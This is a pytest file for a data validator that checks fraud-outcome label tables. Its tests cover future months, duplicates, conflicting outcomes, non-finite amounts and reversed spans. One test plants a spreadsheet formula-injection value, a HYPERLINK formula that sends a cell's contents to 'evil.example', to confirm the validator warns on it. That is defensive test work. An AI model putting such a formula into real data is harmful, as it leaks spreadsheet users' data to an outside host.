"""Labels that should not pass are findings (exit 2), each named: a month not yet over, an exact
duplicate, fraud and clean for the same entity and month, a non-finite amount, a span that ends
before it starts. A label file with no rows means no outcomes yet, and passes."""

from __future__ import annotations

import datetime

import pandas as pd

from data_contracts.validate import validate_tables


def _labels(tiny_tables, rows) -> pd.DataFrame:
    provider = tiny_tables["providers"]["provider_id"].iloc[0]
    frame = pd.DataFrame(rows, columns=["entity_id", "period", "outcome", "amount_recovered", "period_from"])
    frame["entity_id"] = frame["entity_id"].fillna(provider)
    return frame.assign(entity_type="provider", pattern=None).astype(
        {"entity_id": "str", "period": "str", "outcome": "str", "period_from": "object"}
    )


def _rules(report) -> set[tuple[str, str]]:
    return {(f.column, f.rule) for f in report.findings if f.table == "labels"}


def test_each_bad_label_is_a_finding(tiny_tables):
    labels = _labels(
        tiny_tables,
        [
            [None, "2031-01", "clean", 0.0, None],  # a month not yet over
            [None, "2025-02", "clean", 0.0, None],  # exact duplicate of the next row
            [None, "2025-02", "clean", 0.0, None],
            [None, "2025-03", "fraud", 10.0, None],  # fraud and clean for one month
            [None, "2025-03", "clean", 0.0, None],
            [None, "2025-04", "fraud", float("inf"), None],  # not a finite amount
            [None, "2025-05", "fraud", 1.0, "2025-06"],  # a span ending before it starts
        ],
    )
    report = validate_tables(tiny_tables, labels, today=datetime.date(2026, 1, 15))
    assert not report.ok
    assert {
        ("period", "not after the current month"),
        ("entity_id", "each row once (no exact duplicate)"),
        ("outcome", "one outcome per entity and period (not fraud and clean)"),
        ("amount_recovered", "≥ 0 and finite"),
        ("period_from", "period_from ≤ period"),
    } <= _rules(report)


def test_good_labels_with_spans_and_empty_labels_pass(tiny_tables):
    good = _labels(tiny_tables, [[None, "2025-04", "fraud", 5.0, "2025-01"], [None, "2025-05", "clean", 0.0, None]])
    assert validate_tables(tiny_tables, good, today=datetime.date(2026, 1, 15)).ok
    assert validate_tables(tiny_tables, good.iloc[:0], today=datetime.date(2026, 1, 15)).ok


def test_text_a_spreadsheet_would_run_is_a_warning_not_a_finding(tiny_tables):
    tables = dict(tiny_tables, providers=tiny_tables["providers"].copy())
    tables["providers"].loc[0, "region"] = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
    report = validate_tables(tables, None, today=datetime.date(2026, 1, 15))
    assert report.ok
    assert [(w.table, w.column, w.failed_rows) for w in report.warnings] == [("providers", "region", 1)]
    assert "warning: providers.region" in report.to_text() and report.to_dict()["warnings"]
